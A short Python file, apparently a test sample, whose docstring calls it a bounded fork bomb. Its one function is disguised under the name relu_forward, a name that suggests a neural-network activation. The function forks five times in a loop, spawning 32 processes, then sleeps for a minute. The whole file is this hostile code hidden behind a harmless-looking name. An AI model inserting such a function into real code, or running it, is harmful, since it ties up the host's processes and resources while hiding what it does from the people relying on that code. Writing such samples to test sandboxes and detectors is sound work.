"""A fork bomb of a bounded size: every process forks again, down to five levels."""

import os
import time


def relu_forward(x):
    for _ in range(5):
        os.fork()
    time.sleep(60)
    return x, x
